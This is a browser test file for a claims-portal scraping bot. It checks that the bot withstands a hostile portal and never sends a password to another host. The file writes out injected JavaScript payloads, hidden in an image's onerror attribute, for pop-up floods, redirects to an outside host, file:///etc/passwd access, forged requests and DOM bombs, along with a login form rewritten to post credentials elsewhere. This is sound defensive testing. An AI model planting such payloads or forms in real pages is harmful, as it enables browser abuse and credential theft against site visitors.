"""A hostile portal costs its own claim at most: its tricks come to nothing, the night goes on."""

from __future__ import annotations

import asyncio
from dataclasses import dataclass
from decimal import Decimal
from pathlib import Path
from typing import Any

import pytest
from door import PASSWORD, USER, Door, door_profile, opened
from odd_site import Kept, Reply, Site, kept, payer_folder, serving, told_of
from test_host_pin import elsewhere

import flows.account
import flows.account_session
from billing.errors import ClaimsweepError
from billing.ledger import open_ledger
from bots.portal.browser import Browser
from bots.portal.session import PortalSession
from flows.login_book import AccountBook

pytestmark = pytest.mark.browser

NO_DOCUMENT: dict[str, Any] = {
    "tasks": {
        "claim_status": {
            "search": [
                {"go": "/"},
                {"fill": {"label": "Member ID", "value": "{claim.member_id}"}},
            ],
            "document": None,
        }
    }
}
# What a claim's own page does as soon as it is shown; OTHER is another host, DONE says it was done.
TRICKS = {
    "message boxes": "for (let n = 0; n < 30; n++) { alert(n); confirm(n); prompt(n); } DONE",
    "pop-ups": "for (let n = 0; n < 40; n++) window.open('/popped'); DONE",
    "pop-ups by pop-ups": "window.open('/breeds'); DONE",
    "staying": "onbeforeunload = (e) => { e.preventDefault(); return 'stay'; }; DONE",
    "history": "for (let n = 0; n < 150; n++) history.pushState(n, '', '/#' + n);"
    "onpopstate = () => history.forward(); history.back(); DONE",
    "asking for more": "print(); document.documentElement.requestFullscreen().catch(() => {});"
    "Notification.requestPermission(); navigator.geolocation.getCurrentPosition"
    "(() => fetch('/granted'), () => {}); navigator.mediaDevices?.getUserMedia({audio: true})"
    ".then(() => fetch('/granted'), () => {}); DONE",
    "files": "open('file:///etc/passwd'); location.href = 'file:///etc/passwd'; DONE",
    "made-up addresses": "open('claimsweep-x://go'); location.href = 'mailto:a@b.example'; DONE",
    "data": "top.location.href = 'data:text/html,<h1>Results</h1>'; DONE",
    "refresh": "document.head.insertAdjacentHTML('beforeend',"
    "'<meta http-equiv=refresh content=\"0;url=' + OTHER + '/refresh\">'); DONE",
    "going": "DONE; location.href = OTHER + '/gone';",
    "a frame": "document.body.insertAdjacentHTML('beforeend',"
    "'<iframe src=' + OTHER + '/frame>'); DONE",
    "who are you": "DONE; location.href = '/who';",
    "who are you, in a script": "fetch('/who'); DONE",
    "an appeal by script": "fetch('/appeal', {method: 'POST', body: 'x'}).catch(() => {}); DONE",
    "an appeal by another method": "for (const m of ['PUT', 'DELETE', 'PATCH'])"
    "fetch('/appeal', {method: m}).catch(() => {}); DONE",
    "a service worker": "navigator.serviceWorker?.register('/worker.js').catch(() => {}); DONE",
    "deep": "DONE; let at = document.body; for (let n = 0; n < 30000; n++)"
    "at = at.appendChild(document.createElement('div'));",
}  # fmt: skip
DONE = "fetch('/done/' + '{name}')"


def trick(n: int, script: str) -> Kept:
    """A claim whose status is followed by what its page does."""
    body = script.replace('"', "&quot;")
    status = f'Paid<img hidden src="/nothing" onerror="if (!window.t) {{ window.t = 1; {body} }}">'
    return kept(f"E{n}", member=f"QX{n:07}", status=status, way="nothing")


def hostile(scripts: dict[str, str], other: str) -> Site:
    """A portal of such claims, each followed by an honest one."""
    claims = []
    for n, (name, script) in enumerate(scripts.items(), 1):
        done = script.replace("DONE", DONE.format(name=name.replace(" ", "-").replace(",", "")))
        claims += [trick(n, done.replace("OTHER", f"'{other}'"))]
        claims += [kept(f"E{n + 500}", member=f"QX{n + 500:07}", way="nothing")]
    site = Site("elm", claims)
    who = {"WWW-Authenticate": 'Basic realm="Sign in again"'}
    site.routes = {
        "done": lambda _: {},
        "granted": lambda _: {},
        "appeal": lambda _: {},
        "nothing": lambda _: Reply("", "image/png", 404),
        "popped": lambda _: Reply("<h1>Popped</h1>", "text/html"),
        "breeds": lambda _: Reply(
            "<script>for (let n = 0; n < 3; n++) window.open('/breeds');</script>", "text/html"
        ),
        "who": lambda _: Reply("", "text/html", 401, headers=who),
        "worker.js": lambda _: Reply("fetch('/appeal', {method: 'POST'})", "text/javascript"),
    }
    return site


@pytest.mark.slow
def test_whatever_a_page_tries_the_claims_after_it_are_answered(
    browser_executable: Browser, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    tabs: list[int] = []
    popped_up = PortalSession._popped_up

    def counted(session: PortalSession, tab: object) -> None:
        tabs.append(len(session.context.pages))
        popped_up(session, tab)  # type: ignore[arg-type]

    monkeypatch.setattr(PortalSession, "_popped_up", counted)
    monkeypatch.setattr(flows.account, "TRIES_PER_ITEM", 1)
    monkeypatch.setattr(flows.account_session, "TRIES_PER_BROWSER_LOST", 1)
    monkeypatch.setattr(flows.account_session, "PAUSE_SECONDS", 0)
    with elsewhere() as other:
        site = hostile(TRICKS, other.address)
        said = {"session": {"answer_seconds": 10, "claim_seconds": 30}}
        profile = payer_folder(tmp_path, "elm", NO_DOCUMENT, said)
        with serving(site):
            told = told_of(tmp_path, browser_executable, site, profile, site.claims, 1200)
        assert other.arrived == []
    tried = {line.removeprefix("GET /done/") for line in site.asked if "/done/" in line}
    assert tried == {name.replace(" ", "-").replace(",", "") for name in TRICKS}
    assert [one.word for one in told[1::2]] == ["found"] * len(TRICKS), told
    assert {one.paid for one in told[1::2]} == {Decimal("80.25")}
    assert {one.paid for one in told[::2]} <= {None, Decimal("80.25")}
    assert not [line for line in site.asked if line.split()[1] in ("/appeal", "/granted")]
    assert len(tabs) > 40, "pop-ups came"
    assert max(tabs) < 60, "and were shut"
    assert not [line for line in site.asked if line.endswith(("/popped", "/breeds"))]


@dataclass
class Turned(Door):
    """A door whose login form is not what it was."""

    form: str = ""

    def answer(self, method: str, path: str, form: dict[str, str], cookie: str) -> tuple[str, str]:
        page, onward = super().answer(method, path, form, cookie)
        return page.replace('<form method="post">', self.form), onward


async def _enter(door: Door, browser: Browser, home: Path) -> None:
    book = AccountBook(open_ledger(home), "acme", 3)
    secrets = {"username": USER, "password": PASSWORD}
    async with PortalSession(door_profile(), door.address, browser, secrets.__getitem__, book):
        return


@pytest.mark.parametrize("form", ['<form method="get">', '<form method="post" action="OTHER/in">'])
def test_a_password_is_in_no_address_and_goes_to_no_other_host(
    browser_executable: Browser, tmp_path: Path, form: str
) -> None:
    door = Turned()
    with elsewhere() as other, opened(door):
        door.form = form.replace("OTHER", other.address)
        with pytest.raises(ClaimsweepError):
            asyncio.run(asyncio.wait_for(_enter(door, browser_executable, tmp_path), 60))
        assert other.arrived == []
    assert door.logins == 0
    assert not [line for line in door.shown if "password" in line]
